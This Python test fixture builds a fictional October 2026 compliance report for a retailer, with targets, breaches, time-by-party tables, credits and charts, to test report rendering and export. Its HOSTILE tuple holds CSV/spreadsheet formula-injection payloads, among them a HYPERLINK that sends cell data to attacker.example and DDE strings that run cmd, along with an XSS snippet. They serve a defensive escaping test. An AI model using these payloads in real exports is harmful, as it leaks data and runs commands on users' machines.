"""A rich report that nobody counted: every kind of cell and chart, hostile texts, long words, shares that must not be rounded
up. For tests of whatever renders, freezes or sends a report."""

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from fractions import Fraction

from gateway.domain.reports.document import Cell, CellKind, Chart, ChartKind, Column, Report, Section, Table

AT = datetime(2026, 11, 2, 8, 30, tzinfo=UTC)
HOSTILE = (
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    'quote " comma , semicolon ; line\nbreak',
    "nul \0 bell \a escape \x1b",
    "'already an apostrophe",
)
HOUR, MINUTE = timedelta(hours=1), timedelta(minutes=1)


def column(key: str, title: str, kind: CellKind = CellKind.TEXT, unit: str = "") -> Column:
    return Column(key=key, title=title, kind=kind, unit=unit)


def report() -> Report:
    """The whole."""
    return Report(
        kind="compliance",
        title="Compliance of North Stores, October 2026",
        parameters={
            "customer": "North Stores (north)",
            "period": "2026-10-01 to 2026-10-31, Europe/Rome",
            "agreements": "till-sla version 3, valid from 2026-01-01",
            "calendars": "shop-hours version 2 (Italy, holidays as of 2026-01-04)",
            "data as of": "2026-11-02 08:30 UTC",
        },
        made_at=AT,
        zone="Europe/Rome",
        version=2,
        headlines=(
            "1,999 of 2,000 resolutions were met in time (99.95 %); the objective of 99.90 % is met.",
            "117 of 124 critical responses were met in time (94.35 %); the objective of 95.00 % is missed by 1.",
            "West Cabling caused 4 of the 8 breaches and 61 h 12 min of the 93 h 40 min over target.",
            "Credits owed to North Stores: 1,250.00 EUR; recoverable from partners: 800.00 EUR.",
        ),
        warnings=(
            "3 of 437 tickets were measured while a link was down: their times are ours, not the desk's.",
            "2 outcomes are provisional: a stop-clock request is not decided.",
        ),
        sections=(_coverage(), _targets(), _breaches(), _minutes(), _trend(), _credits(), _odd()),
    )


def later() -> Report:
    """The same after a late fact: one met resolution is a breach."""
    before = report()
    targets = before.sections[1]
    table = targets.tables[0]
    changed = tuple(
        (*row[:2], 1998, 2, *row[4:6], Fraction(1998, 2000), *row[7:]) if row[0] == "resolution" else row
        for row in table.rows
    )
    breaches = before.sections[2]
    more = replace(
        breaches.tables[0], rows=(*breaches.tables[0].rows, _breach("T-9001", 9, "South Services"))
    )
    sections = tuple(
        replace(one, tables=(replace(table, rows=changed),))
        if one is targets
        else replace(one, tables=(more,))
        if one is breaches
        else one
        for one in before.sections
    )
    return replace(before, sections=sections, made_at=AT + timedelta(days=3), version=3)


def _coverage() -> Section:
    rows: tuple[tuple[Cell, ...], ...] = (
        ("desk history", 410, Fraction(410, 437)),
        ("difference only", 19, Fraction(19, 437)),
        ("by a person", 5, Fraction(5, 437)),
        ("link down", 3, Fraction(3, 437)),
        ("unlinked", 0, Fraction(0)),
    )
    table = Table(
        id="coverage",
        title="By what tickets were measured",
        columns=(
            column("measured", "Measured by"),
            column("tickets", "Tickets", CellKind.COUNT),
            column("share", "Share", CellKind.SHARE),
        ),
        rows=rows,
        totals=("All", 437, Fraction(1)),
        note="A ticket counts by the worst measured of its assignments.",
    )
    summary = "410 of 437 tickets (93.82 %) were measured by the history of the desks."
    chart = Chart(
        table="coverage", kind=ChartKind.BARS, label="measured", series=("tickets",), summary=summary
    )
    return Section(id="coverage", title="Coverage", summary=summary, tables=(table,), charts=(chart,))


def _targets() -> Section:
    rows: tuple[tuple[Cell, ...], ...] = (
        ("resolution", "all", 1999, 1, 4, 2, Fraction(1999, 2000), Fraction(999, 1000), True),
        ("response", "critical", 117, 7, 0, 1, Fraction(117, 124), Fraction(95, 100), False),
        ("time to attend", "high", 99951, 49, 0, 0, Fraction(99951, 100000), Fraction(9995, 10000), True),
        ("temporary restoration", "critical", 0, 0, 0, 0, None, Fraction(9, 10), None),
    )
    table = Table(
        id="targets",
        title="Targets against their objectives",
        columns=(
            column("target", "Target"),
            column("priority", "Priority", CellKind.CODE),
            column("met", "Met", CellKind.COUNT),
            column("breached", "Breached", CellKind.COUNT),
            column("running", "Running", CellKind.COUNT),
            column("excluded", "Excluded", CellKind.COUNT),
            column("gross", "Gross share", CellKind.SHARE),
            column("objective", "Objective", CellKind.SHARE),
            column("is_met", "Objective met", CellKind.FLAG),
        ),
        rows=rows,
        note="Gross: met of met, breached and excluded. A share is cut, never rounded up.",
    )
    summary = "Two of three objectives are met; critical responses missed theirs by one ticket."
    chart = Chart(
        table="targets",
        kind=ChartKind.BARS,
        label="target",
        series=("gross",),
        summary=summary,
        mark=Fraction(95, 100),
    )
    return Section(
        id="targets", title="Targets and objectives", summary=summary, tables=(table,), charts=(chart,)
    )


def _breach(number: str, hours: int, party: str) -> tuple[Cell, ...]:
    due = datetime(2026, 10, 24, 22, 30, tzinfo=UTC) + hours * HOUR
    return (
        number,
        "resolution",
        "high",
        due,
        due + hours * HOUR,
        hours * HOUR + timedelta(microseconds=1),
        party,
        f"{party}: {hours} h",
    )


def _breaches() -> Section:
    parties = ("West Cabling", "South Services", "North Stores", "contract gap")
    rows = tuple(_breach(f"T-{1000 + number}", number + 1, parties[number % 4]) for number in range(8))
    table = Table(
        id="breaches",
        title="Breaches and whose they are",
        columns=(
            column("ticket", "Ticket", CellKind.TICKET),
            column("target", "Target"),
            column("priority", "Priority", CellKind.CODE),
            column("due_at", "Due", CellKind.MOMENT),
            column("ended_at", "Ended", CellKind.MOMENT),
            column("over", "Over", CellKind.LENGTH),
            column("party", "Mostly"),
            column("parts", "Parts"),
        ),
        rows=rows,
        totals=("All", None, None, None, None, 36 * HOUR + timedelta(microseconds=8), None, None),
    )
    return Section(
        id="breaches", title="Breaches", summary="8 clocks ran over their target.", tables=(table,)
    )


def _minutes() -> Section:
    parties = ("South Services", "West Cabling", "transit to West Cabling", "tier-2 partner")
    rows = tuple(
        (party, (40 - 9 * place) * HOUR, (12 + 3 * place) * HOUR + 30 * MINUTE, place * 45 * MINUTE)
        for place, party in enumerate(parties)
    )
    table = Table(
        id="minutes",
        title="Where the time went",
        columns=(
            column("party", "Party"),
            column("worked", "Clock ran", CellKind.LENGTH),
            column("stopped", "Waited for the requester", CellKind.LENGTH),
            column("access", "Waited for access", CellKind.LENGTH),
        ),
        rows=rows,
        totals=("All", 106 * HOUR, 68 * HOUR, 4 * HOUR + 30 * MINUTE),
    )
    summary = "South Services held the tickets longest while clocks ran: 40 h."
    chart = Chart(
        table="minutes",
        kind=ChartKind.STACKED,
        label="party",
        series=("worked", "stopped", "access"),
        summary=summary,
    )
    return Section(
        id="minutes", title="Where the time went", summary=summary, tables=(table,), charts=(chart,)
    )


def _trend() -> Section:
    months = [date(2025 + (9 + number) // 12, (9 + number) % 12 + 1, 1) for number in range(13)]
    met = (188, 190, 186, 195, 197, 192, 190, 199, 200, 198, None, 185, 199)
    rows = tuple(
        (f"{month:%Y-%m}", one, None if one is None else Fraction(one, 200))
        for month, one in zip(months, met, strict=True)
    )
    table = Table(
        id="trend",
        title="Thirteen months",
        columns=(
            column("month", "Month"),
            column("met", "Met", CellKind.COUNT),
            column("share", "Gross share", CellKind.SHARE),
        ),
        rows=rows,
    )
    summary = "The share of 99.50 % in October is the best since June; August had no case."
    chart = Chart(
        table="trend",
        kind=ChartKind.LINE,
        label="month",
        series=("share",),
        summary=summary,
        mark=Fraction(95, 100),
    )
    return Section(id="trend", title="Thirteen months", summary=summary, tables=(table,), charts=(chart,))


def _credits() -> Section:
    table = Table(
        id="credits",
        title="Service credits",
        columns=(
            column("scheme", "Scheme"),
            column("since", "In force since", CellKind.DAY),
            column("owed", "Owed", CellKind.MONEY, "EUR"),
            column("recoverable", "Recoverable", CellKind.MONEY, "EUR"),
        ),
        rows=(
            ("5 % of the fee for each point missed", date(2026, 1, 1), Decimal("1250.00"), Decimal("800.00")),
            ("per started 15 minutes", date(2026, 7, 1), Decimal("0.00"), Decimal("-12.50")),
        ),
        totals=("All", None, Decimal("1250.00"), Decimal("787.50")),
    )
    return Section(id="credits", title="Credits", tables=(table,))


def _odd() -> Section:
    words = Table(
        id="words",
        title="Words of strangers: [a] sheet/name? that is *too* long for a sheet",
        columns=(column("words", "As they were written"), column("length", "How long", CellKind.LENGTH)),
        rows=tuple((words, timedelta(seconds=-90 * place)) for place, words in enumerate(HOSTILE)),
    )
    empty = Table(
        id="watermelons",
        title="Green outside, red inside",
        columns=(column("ticket", "Ticket", CellKind.TICKET), column("why", "Why")),
        empty="No ticket was met on every clock and yet complained of.",
    )
    return Section(id="odd", title="Odd things", tables=(words, empty))
